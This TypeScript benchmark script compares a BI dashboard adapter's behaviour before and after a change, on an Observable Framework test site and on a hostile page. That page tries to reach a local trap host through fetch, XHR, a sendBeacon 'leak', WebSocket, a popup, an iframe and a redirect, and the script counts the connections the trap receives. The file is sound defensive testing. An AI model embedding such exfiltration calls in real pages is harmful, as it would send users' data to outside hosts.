/**
 * The BI reader against real dashboard software and a hostile page (issues 28 and 26), before and
 * after: each scenario runs on this checkout's adapter and, with --before, on another checkout's
 * (main's code), and the figures are printed side by side.
 *
 *   bash .ci/build-test-dashboards && npx tsx bench/bi-real-software.ts --before /work/main
 *
 * Scenarios: the Observable Framework site's Inputs.table (180 rows, ~22 rendered until scrolled);
 * its defects page (a table above Framework's "Next page" footer link, ppm / ‰ / bp cells); the same
 * site with its theme stylesheet stalled; the site behind HTTP Basic auth; a page that tries every way
 * to reach a trap host, and a 302 from the dashboard to it (TCP connections the trap accepted).
 */
import { existsSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { parseArgs } from "node:util";
import { serveStaticSite } from "../test/support/bi-dashboard/static-site-server.js";

const { values } = parseArgs({ options: { before: { type: "string" } } });
const here = path.resolve(import.meta.dirname, "..");
const SITE = path.join(here, "test/dashboards/observable-framework/dist");
if (!existsSync(path.join(SITE, "returns.html"))) {
  process.stderr.write(`error: ${SITE} is not built: run bash .ci/build-test-dashboards\n`);
  process.exit(2);
}

interface Outcome {
  result: string;
  seconds: number;
  trap?: number;
}

const catalog = `
catalog:
  metrics:
    returned: { unit: count }
    return_rate: { unit: percent }
    defects: { unit: count }
    scrap: { unit: percent }
  dimensions:
    region: { values: { East: [], North: [], South: [], West: [], Central: [] } }`;

const source = (extra: string, datasets: string) => `${catalog}
sources:
  bi:
    kind: bi_dashboard
    base_url: \${TRIANGULATE_BI_URL}
    timeout_seconds: 20
${extra}
    datasets:
${datasets}`;

const RETURNS = `      returns:
        url: /returns
        locate: { heading: Monthly returns }
        columns: { Month: month, Region: region, Returned: returned, Return rate %: return_rate }
        offers: { metrics: [returned, return_rate], dimensions: [region] }`;
const DEFECTS = `      defects:
        url: /defects
        locate: { heading: 各工厂缺陷 }
        columns: { Plant: plant, Defects: defects }
        offers: { metrics: [defects] }`;
const ESCAPE = `      figures:
        url: /figures
        locate: { heading: Figures }
        columns: { Month: month, Amount: returned }
        offers: { metrics: [returned] }
      moved:
        url: /moved
        locate: { heading: Figures }
        columns: { Month: month, Amount: returned }
        offers: { metrics: [returned] }`;

const escapingPage = (trap: string) => `<!DOCTYPE html><html><head>
<link rel="stylesheet" href="${trap}/style.css"><script src="${trap}/script.js"></script></head>
<body><h2>Figures</h2><div id="card"></div><script>
const trap = ${JSON.stringify(trap)};
fetch(trap + "/fetch").catch(() => {});
const xhr = new XMLHttpRequest(); xhr.open("GET", trap + "/xhr"); xhr.send();
navigator.sendBeacon(trap + "/beacon", "leak");
try { new WebSocket(trap.replace("http", "ws") + "/socket"); } catch {}
window.open(trap + "/popup");
const frame = document.createElement("iframe"); frame.src = trap + "/frame"; document.body.append(frame);
setTimeout(() => { document.getElementById("card").innerHTML = "<table><thead><tr><th>Month</th><th>Amount</th></tr></thead><tbody><tr><td>2024-01</td><td>12</td></tr></tbody></table>"; }, 400);
</script></body></html>`;

async function scenarios(checkout: string): Promise<Record<string, Outcome>> {
  const adapterModule = await import(path.join(checkout, "adapters/bi-dashboard/bi-dashboard-adapter.ts"));
  // The test workspace moved out of the adapter's folder into test/support; an older checkout has it in the old place.
  const workspaceFile = [
    "test/support/bi-dashboard/bi-test-workspace.ts",
    "adapters/bi-dashboard/bi-test-workspace.ts",
  ]
    .map((relative) => path.join(checkout, relative))
    .find((file) => existsSync(file));
  if (!workspaceFile) throw new Error(`no bi-test-workspace.ts in ${checkout}`);
  const workspaceModule = await import(workspaceFile);
  const managerModule = await import(path.join(checkout, "adapters/bi-dashboard/browser-manager.ts"));
  const browsers = new managerModule.BrowserManager({ headless: true });
  let trapConnections = 0;
  const trap = createServer((_request, response) => response.end("trap"));
  trap.on("connection", () => {
    trapConnections += 1;
  });
  trap.on("upgrade", (_request, socket) => socket.destroy());
  await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
  const trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  const site = await serveStaticSite(SITE);
  const basic = await serveStaticSite(SITE, { basic: { username: "analyst", password: "bench-pass" } });
  const stalled = await serveStaticSite(SITE, {
    extra: (request) => request.url?.startsWith("/_observablehq/theme-") ?? false,
  });
  const hostile = await serveStaticSite("/nonexistent", {
    extra: (request, response) => {
      if (request.url === "/figures") {
        response.writeHead(200, { "content-type": "text/html" }).end(escapingPage(trapUrl));
        return true;
      }
      if (request.url === "/moved") {
        response.writeHead(302, { location: `${trapUrl}/elsewhere` }).end();
        return true;
      }
      return false;
    },
  });

  const run = async (url: string, yaml: string, dataset: string, environment = {}): Promise<Outcome> => {
    trapConnections = 0;
    const started = Date.now();
    let result: string;
    // biome-ignore lint/suspicious/noExplicitAny: each checkout's adapter class, loaded by path.
    let adapter: any;
    try {
      const workspace = workspaceModule.testWorkspace(url, environment, yaml);
      adapter = new adapterModule.BiDashboardAdapter("bi", workspace.config.sources.bi, workspace, browsers);
      const goal = workspaceModule.biGoal("bi", dataset);
      const context = workspaceModule.stepContext({ timeoutMs: 25_000 });
      const evidence = adapter.normalize(await adapter.fetch(goal, context), goal);
      result = `${evidence.rows.length} rows`;
    } catch (error) {
      const kind = (error as { kind?: string }).kind ?? (error as Error).name;
      result = `${kind}: ${String((error as Error).message)
        .split("\n")[0]
        .slice(0, 110)}`;
    } finally {
      await adapter?.close();
    }
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { result, seconds: (Date.now() - started) / 1000, trap: trapConnections };
  };

  const outcomes: Record<string, Outcome> = {};
  try {
    outcomes["Framework Inputs.table (180 rows seeded)"] = await run(
      site.url,
      source("", RETURNS),
      "returns",
    );
    outcomes["Framework page with a 'Next page' footer (4 rows)"] = await run(
      site.url,
      source("", DEFECTS),
      "defects",
    );
    outcomes["Framework theme stylesheet stalled (timeout 20 s)"] = await run(
      stalled.url,
      source("", RETURNS),
      "returns",
    );
    outcomes["Framework behind HTTP Basic auth"] = await run(
      basic.url,
      source(`    auth: { type: basic, username: analyst, password: "\${BENCH_PASSWORD}" }`, RETURNS),
      "returns",
      { BENCH_PASSWORD: "bench-pass" },
    );
    outcomes["ppm cells, period from the heading"] = await run(
      site.url,
      source(
        "",
        `${DEFECTS}\n        units: { defects: ppm }\n        period: { heading: '(\\d{4}年第.季度)' }`,
      ),
      "defects",
    );
    outcomes["page reaching for a trap host (9 ways)"] = await run(
      hostile.url,
      source("", ESCAPE),
      "figures",
    );
    outcomes["302 from the dashboard to the trap host"] = await run(hostile.url, source("", ESCAPE), "moved");
  } finally {
    await Promise.all([site.close(), basic.close(), stalled.close(), hostile.close()]);
    trap.closeAllConnections();
    trap.close();
    await browsers.close();
    workspaceModule.removeTemporaryDirectories();
  }
  return outcomes;
}

const after = await scenarios(here);
const before = values.before ? await scenarios(path.resolve(values.before)) : undefined;
const cell = (outcome: Outcome | undefined, trapped: boolean) =>
  outcome
    ? `${outcome.result} · ${outcome.seconds.toFixed(1)} s${trapped ? ` · trap connections ${outcome.trap}` : ""}`
    : "—";
process.stdout.write(
  `| scenario | before${values.before ? ` (${values.before})` : ""} | after (this checkout) |\n|---|---|---|\n`,
);
for (const [name, outcome] of Object.entries(after)) {
  const trapped = name.includes("trap");
  process.stdout.write(`| ${name} | ${cell(before?.[name], trapped)} | ${cell(outcome, trapped)} |\n`);
}
